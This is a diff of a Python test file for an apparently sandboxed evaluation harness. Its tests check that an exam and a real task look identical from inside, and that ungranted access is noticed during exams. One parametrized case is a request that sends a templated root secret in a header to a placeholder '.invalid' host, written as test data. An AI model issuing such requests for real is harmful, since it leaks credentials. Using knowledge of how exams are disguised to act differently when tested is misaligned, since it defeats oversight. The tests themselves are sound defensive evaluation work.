@@ -15,10 +15,12 @@ from arbiter_support import arbiter
 from pydantic import JsonValue
 
 from arbiter import Call, Grants, Manifest, ScriptedModel
+from blackboard.board import Board
 from blackboard.testing import RedisServer
 from fabricator.exam import Bench
+from fabricator.sitting import Sittings
 from fabricator.specification import Case
-from wrapper.broker import AttemptBroker
+from registry.matching import passages
 from wrapper.isolation import ProcessIsolation
 from wrapper.preparing import made_up_task
 
@@ -114,13 +116,10 @@ MANIFEST = Manifest(
 GIVEN: dict[str, JsonValue] = {"a": 1, "b": ["text"]}
 
 
-async def _in_an_exam(isolation: ProcessIsolation) -> dict[str, Any]:
+async def _in_an_exam(board: Board, isolation: ProcessIsolation) -> dict[str, Any]:
     model = ScriptedModel(["Good morning."] * 9)
-
-    def broker(run_id: str) -> AttemptBroker:
-        return AttemptBroker(MANIFEST, lambda: model, None, run_id=run_id)
-
-    bench = Bench(isolation, MANIFEST, LOOKS, case_seconds=7.0, broker=broker)
+    sittings = Sittings(MANIFEST, LOOKS, board, model=lambda: model, meaning=passages.meaning())
+    bench = Bench(isolation, MANIFEST, LOOKS, case_seconds=7.0, sitting=sittings.open)
     result = await bench.examine([Case(name="a case", input=GIVEN, expected=None)])
     assert result.results[0].kind == "wrong_result", result
     return cast("dict[str, Any]", result.results[0].value)
@@ -135,9 +134,9 @@ async def _in_a_task(redis_server: RedisServer, isolation: ProcessIsolation) -> 
 
 
 async def test_g10_an_exam_and_a_task_look_the_same_from_inside(
-    redis_server: RedisServer, isolation: ProcessIsolation
+    redis_server: RedisServer, redis_board: Board, isolation: ProcessIsolation
 ) -> None:
-    examined = await _in_an_exam(isolation)
+    examined = await _in_an_exam(redis_board, isolation)
     at_work = await _in_a_task(redis_server, isolation)
     # A task that is called directly has no planner's round in its id.
     assert re.fullmatch(r"/#\.[a-z_]+", examined.pop("place"))
@@ -169,27 +168,25 @@ async def test_the_numbers_of_an_exam_are_as_old_as_those_of_a_task() -> None:
     assert len({round(after - at, 1) for at in accepted}) > 10, "an age of its own is as telling as none"
 
 
-@pytest.mark.parametrize("what", ["model", "file", "host", "secret"])
-async def test_what_is_not_granted_is_noticed_in_an_exam_too(isolation: ProcessIsolation, what: str) -> None:
+@pytest.mark.parametrize("what", ["model", "file", "host", "secret", "topic"])
+async def test_what_is_not_granted_is_noticed_in_an_exam_too(
+    redis_board: Board, isolation: ProcessIsolation, what: str
+) -> None:
     """Where nothing outside is reached, what was asked for is judged all the same."""
     asks = {
         "model": "sdk.call('model.invoke', {'messages': []})",
         "file": "sdk.open_input('other')",
         "host": "sdk.fetch('https://elsewhere.invalid/')",
+        "topic": "sdk.query('other.>')",
         "secret": "sdk.fetch('https://no-such-host.invalid/', headers={'x': '{{secret:ROOT}}'})",
     }[what]
     manifest = MANIFEST.model_copy(update={"grants": MANIFEST.grants.model_copy(update={"model": what != "model"})})
-    brokers: list[AttemptBroker] = []
-
-    def broker(_: str) -> AttemptBroker:
-        brokers.append(AttemptBroker(manifest, None, None))
-        return brokers[-1]
-
     source = f"from wrapper import sdk\n\ndef handler(**given):\n    return {asks}\n"
-    bench = Bench(isolation, manifest, source, case_seconds=20.0, broker=broker)
+    sittings = Sittings(manifest, source, redis_board, model=None, meaning=passages.meaning())
+    bench = Bench(isolation, manifest, source, case_seconds=20.0, sitting=sittings.open)
     result = await bench.examine([Case(name="a case", input={}, expected=None)])
     assert not result.passed
-    assert brokers[0].exceeded.is_set(), result
+    assert sittings.excess, result
 
 
 async def test_a_candidate_that_is_no_text_fails_its_exam(isolation: ProcessIsolation) -> None:
